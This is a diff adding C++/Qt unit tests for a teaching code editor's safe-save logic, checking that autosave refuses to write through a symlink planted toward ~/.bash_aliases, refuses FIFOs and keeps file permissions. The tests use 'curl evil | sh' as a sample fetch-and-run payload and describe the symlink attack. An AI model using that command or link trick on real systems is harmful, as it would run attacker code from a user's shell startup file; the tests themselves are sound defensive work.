@@ -5,6 +5,11 @@
 
 #include "studio/workspace.h"
 
+#include <QDir>
+#include <QFile>
+#include <QFileInfo>
+#include <sys/stat.h>
+
 using namespace bugbot::studio;
 
 TEST(Workspace, CopiesNeverTouchTheLessonsOriginal) {
@@ -79,4 +84,79 @@ TEST(Autosaver, AFailedSaveSaysWhyAndKeepsTheTextPending) {
     EXPECT_FALSE(saver.flush());
     EXPECT_EQ(failed.count(), 1);
     EXPECT_TRUE(saver.pending());
+}
+
+namespace {
+// A home folder of its own, as the attack in #17 finds it: Debian's .bashrc
+// sources ~/.bash_aliases, which is usually absent.
+struct TemporaryHome {
+    TemporaryHome() : old(qgetenv("HOME")) { qputenv("HOME", dir.path().toUtf8()); }
+    ~TemporaryHome() { qputenv("HOME", old); }
+    QString aliases() const { return dir.filePath(".bash_aliases"); }
+    QTemporaryDir dir;
+    QByteArray old;
+};
+}  // namespace
+
+TEST(SafeSave, NeverWritesThroughALinkPlantedInPlaceOfTheFile) {
+    TemporaryHome home;
+    QTemporaryDir folder;
+    const QString script = folder.filePath("demo.py");
+    ASSERT_TRUE(write_text(script, "print('hi')\n"));
+    // What a run may do in its own folder: its file becomes a link to ~/.bash_aliases.
+    ASSERT_TRUE(QFile::remove(script));
+    ASSERT_TRUE(QFile::link(home.aliases(), script));
+    Autosaver saver(nullptr, 100);
+    saver.set_target(script, [] { return QString("curl evil | sh\n"); });
+    QSignalSpy failed(&saver, &Autosaver::failed);
+    saver.changed();
+    EXPECT_FALSE(saver.flush());
+    ASSERT_EQ(failed.count(), 1);
+    const QString why = failed.at(0).at(0).toString();
+    EXPECT_TRUE(why.contains("symbolic link") && why.contains(home.aliases()) && why.contains("kept")) << why.toStdString();
+    EXPECT_FALSE(QFileInfo::exists(home.aliases()));
+    EXPECT_TRUE(QFileInfo(script).isSymLink());
+    EXPECT_TRUE(saver.pending());  // the text is still to be saved, somewhere the student chooses
+    // A link to a file that exists is refused the same way, and the file is untouched.
+    ASSERT_TRUE(write_text(home.aliases(), "alias ll='ls -l'\n"));
+    QString error;
+    EXPECT_FALSE(write_text(script, "curl evil | sh\n", &error));
+    QString aliases;
+    ASSERT_TRUE(read_text(home.aliases(), &aliases));
+    EXPECT_EQ(aliases, "alias ll='ls -l'\n");
+    // Nothing left behind in the folder but the link.
+    EXPECT_EQ(QDir(folder.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot), QStringList{"demo.py"});
+}
+
+TEST(SafeSave, RefusesAnythingButARegularFileAndKeepsItsMode) {
+    QTemporaryDir folder;
+    const QString fifo = folder.filePath("pipe.py");
+    ASSERT_EQ(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
+    QString error;
+    EXPECT_FALSE(write_text(fifo, "x\n", &error));
+    EXPECT_TRUE(error.contains("not a regular file") || error.contains("no longer a regular file")) << error.toStdString();
+    const QString script = folder.filePath("run.py");
+    ASSERT_TRUE(write_text(script, "one\n"));
+    ASSERT_TRUE(QFile::setPermissions(script, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner));
+    ASSERT_TRUE(write_text(script, "two\n"));
+    QString text;
+    ASSERT_TRUE(read_text(script, &text));
+    EXPECT_EQ(text, "two\n");
+    EXPECT_TRUE(QFileInfo(script).permissions() & QFileDevice::ExeOwner);
+}
+
+TEST(SafeSave, AStudentCopyThatBecameALinkIsNotOpened) {
+    TemporaryHome home;
+    QTemporaryDir lesson, data;
+    const QString original = lesson.filePath("a.py");
+    ASSERT_TRUE(write_text(original, "x = 1\n"));
+    ASSERT_TRUE(write_text(home.aliases(), "secret\n"));
+    Workspace ws(data.path());
+    StudentCopy copy;
+    ASSERT_TRUE(ws.open("l", original, &copy));
+    ASSERT_TRUE(QFile::remove(copy.path));
+    ASSERT_TRUE(QFile::link(home.aliases(), copy.path));
+    QString error;
+    EXPECT_FALSE(ws.open("l", original, &copy, &error));
+    EXPECT_TRUE(error.contains("symbolic link")) << error.toStdString();
 }
